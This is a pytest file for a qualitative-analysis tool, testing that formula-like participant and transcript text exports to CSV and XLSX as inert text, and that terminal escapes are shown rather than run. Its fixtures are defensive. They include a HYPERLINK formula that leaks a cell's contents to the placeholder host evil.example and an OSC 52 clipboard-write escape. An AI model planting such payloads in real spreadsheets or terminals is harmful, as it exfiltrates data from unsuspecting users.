"""Formula-like text from participants files and transcripts never becomes a live formula in an export.

XLSX: every cell a user value reaches is a text cell (never ``data_type == "f"``) holding exactly that
text. CSV: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR gets a leading apostrophe (OWASP).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from chimeqda.cli import main
from chimeqda.tabular import (
    csv_cell,
    csv_safe,
    looks_like_formula,
    map_text_columns,
    read_csv_table,
)

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
QUOTE = '=1+1 is what they told me, and @ the meeting I believed it.'
DANGEROUS = (LINK, "=1+1", "+31 6 1234", "-2", "@SUM(A1:A9)", QUOTE)


@pytest.fixture
def hostile(workspace, tmp_path):
    """A project whose participants file and transcript carry formula-like text, coded by a person."""
    from sqlalchemy import select

    from chimeqda.services import add_coding, import_files
    from chimeqda.store import tables as t

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "P01-interview.txt").write_text(
        f"I: What happened?\nR: {QUOTE}\nI: And then?\nR: My sister drove me to the meeting.\n", encoding="utf-8")
    parts = tmp_path / "parts.csv"
    with parts.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["participant", "file", "site", "note", "phone"])
        writer.writerow(["P01", "P01-interview.txt", LINK, "=1+1", "+31 6 1234"])
        writer.writerow(["P02", "", "-2", "@SUM(A1:A9)", "=1+1"])
    [outcome] = import_files(workspace, [folder], participants_csv=parts)
    with workspace.session() as session:
        text = session.get(t.Document, outcome.document_id).text
        assert QUOTE in text
        codes = set(session.scalars(select(t.Code.key)))
    start = text.index(QUOTE)
    add_coding(workspace, outcome.document_id, start, start + len(QUOTE), "hope", by="ann")
    assert "hope" in codes
    return workspace


def _cli(ws, *args: str) -> str:
    url = ws.engine.url.render_as_string(hide_password=False)
    result = CliRunner().invoke(main, [*args, "-p", str(ws.directory), "--db", url], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def _number(text: str) -> bool:
    """A value chimeqda stored as a number (the participants file's "-2"), which stays a number."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def _cells(path: Path):
    book = load_workbook(path)
    return [(sheet.title, cell) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_not_formulas(path: Path, expected: tuple[str, ...]) -> None:
    cells = _cells(path)
    formulas = [(title, cell.coordinate, cell.value) for title, cell in cells if cell.data_type == "f"]
    assert formulas == []
    values = {cell.value for _, cell in cells}
    for text in expected:
        assert text in values, f"{text!r} did not survive into {path.name}"
    for _, cell in cells:
        if looks_like_formula(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix


def test_export_xlsx_writes_participant_attributes_and_quotes_as_text(hostile, tmp_path):
    out = tmp_path / "tables.xlsx"
    _cli(hostile, "export", "--format", "xlsx", "--out", str(out))
    _assert_text_not_formulas(out, DANGEROUS)
    book = load_workbook(out)
    header = [c.value for c in book["coded_segments"][1]]
    row = [c.value for c in book["coded_segments"][2]]
    assert row[header.index("attr_site")] == LINK and row[header.index("text")].startswith("=1+1")
    frequencies = list(book["frequencies"].values)
    assert isinstance(frequencies[1][frequencies[0].index("segments")], int)  # counts stay numbers


def test_framework_xlsx_writes_text_as_text(hostile, tmp_path):
    out = tmp_path / "framework.xlsx"
    _cli(hostile, "framework", "--draft", "--xlsx", str(out))
    _assert_text_not_formulas(out, (LINK, "=1+1", "@SUM(A1:A9)"))
    sheets = load_workbook(out)
    assert any(isinstance(c.value, int) for row in sheets["counts"].iter_rows(min_row=2) for c in row)


def test_presence_matrix_xlsx_and_csv(hostile, tmp_path):

    with_label = tmp_path / "more.csv"
    with_label.write_text("participant,site\n=2+2,x\n", encoding="utf-8")
    _cli(hostile, "participants", str(with_label))
    _cli(hostile, "export", "--format", "presence-matrix", "--out", str(tmp_path / "m.xlsx"))
    _assert_text_not_formulas(tmp_path / "m.xlsx", ("=2+2",))
    _cli(hostile, "export", "--format", "presence-matrix", "--out", str(tmp_path / "m.csv"))
    rows = list(csv.reader((tmp_path / "m.csv").open(encoding="utf-8")))
    assert ["'=2+2"] == [r[0] for r in rows if "2+2" in r[0]]


def test_report_and_analyse_csvs_start_formula_text_with_a_quote(hostile, tmp_path):
    _cli(hostile, "report", "--out", str(tmp_path / "report"))
    segments = tmp_path / "segments.csv"
    _cli(hostile, "analyse", "segments", "--csv", str(segments))
    by = tmp_path / "by.csv"
    _cli(hostile, "analyse", "by-attribute", "--attribute", "site", "--csv", str(by))
    written = [segments, by, *sorted((tmp_path / "report" / "tables").glob("*.csv"))]
    cells = [(path.name, cell) for path in written for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    assert not [c for c in cells if looks_like_formula(c[1]) and not _number(c[1])]
    cells = [cell for _, cell in cells]
    assert "'" + QUOTE in cells and "'" + LINK in cells
    table = pd.read_csv(segments)
    assert pd.api.types.is_numeric_dtype(table["segment_index"])  # numbers stay numbers


def test_csv_safe_keeps_numbers_and_quotes_text_index_and_headers():
    frame = pd.DataFrame({"=x": ["=1+1", "plain", None], "kappa": [-0.25, 0.5, 1.0]},
                         index=pd.Index(["@a", "b", "-c"], name="+p"))
    safe = csv_safe(frame)
    assert list(safe.columns) == ["'=x", "kappa"] and safe.index.name == "'+p"
    assert list(safe.index) == ["'@a", "b", "'-c"]
    assert safe["'=x"].tolist()[:2] == ["'=1+1", "plain"] and pd.isna(safe["'=x"].iloc[2])
    assert safe["kappa"].tolist() == [-0.25, 0.5, 1.0]
    assert [csv_cell(v) for v in ("\tx", "\rx", -3, "a=b")] == ["'\tx", "'\rx", -3, "a=b"]


def test_map_text_columns_maps_text_cells_of_a_copy_and_leaves_other_columns():
    frame = pd.DataFrame([["a", 1, True, "b"], ["c", 2, False, "d"]], columns=["x", "n", "flag", "x"])
    frame["when"] = pd.to_datetime(["2026-01-01", "2026-01-02"])
    mapped = map_text_columns(frame, lambda v: f"<{v}>")
    assert mapped.iloc[:, 0].tolist() == ["<a>", "<c>"] and mapped.iloc[:, 3].tolist() == ["<b>", "<d>"]
    assert mapped["n"].tolist() == [1, 2] and mapped["flag"].tolist() == [True, False]
    assert pd.api.types.is_datetime64_any_dtype(mapped["when"])
    assert frame.iloc[:, 0].tolist() == ["a", "c"]  # the caller's frame is not changed


def test_codebook_csv_round_trips_formula_like_text(tmp_path):
    from chimeqda.codebook import load_codebook
    from chimeqda.codebook.loader import write_codebook_csv
    from chimeqda.model import Code, Codebook, Example

    code = Code(id="c1", name="=cmd", definition="- a list item", inclusion="+ more", exclusion="@ none",
                examples=(Example(text="=an example", lang="en"),))
    book = Codebook(id="b", name="B", version="1", codes=(code,))
    path = write_codebook_csv(book, tmp_path / "book.csv")
    _, rows = read_csv_table(path)
    assert "'=cmd" in path.read_text(encoding="utf-8")
    assert rows[0]["name"] == "=cmd"
    again = load_codebook(path)
    assert (again["c1"].name, again["c1"].definition, again["c1"].exclusion) == ("=cmd", "- a list item", "@ none")


def test_privacy_audit_csv_quotes_formula_like_names():
    from datetime import UTC, datetime

    from chimeqda.services.privacy_audit import AuditEntry, audit_csv

    entry = AuditEntry(datetime(2026, 1, 1, tzinfo=UTC), "ann", "export", "=1+1.txt", "@reason", {})
    rows = list(csv.reader(audit_csv([entry]).splitlines()))
    assert rows[1][3:5] == ["'=1+1.txt", "'@reason"]


def test_terminal_escapes_in_a_participants_file_are_shown_not_run(hostile, tmp_path):
    clipboard = "\x1b]52;c;ZXZpbA==\x07"  # OSC 52: write to the terminal user's clipboard
    parts = tmp_path / "escapes.csv"
    parts.write_text(f"participant,mood\nP01,{clipboard}calm\n", encoding="utf-8")
    _cli(hostile, "participants", str(parts))
    shown = _cli(hostile, "analyse", "by-attribute", "--attribute", "mood")
    assert "\x1b" not in shown and "\x07" not in shown
    assert "\\x1b]52;c;ZXZpbA==\\x07calm" in shown
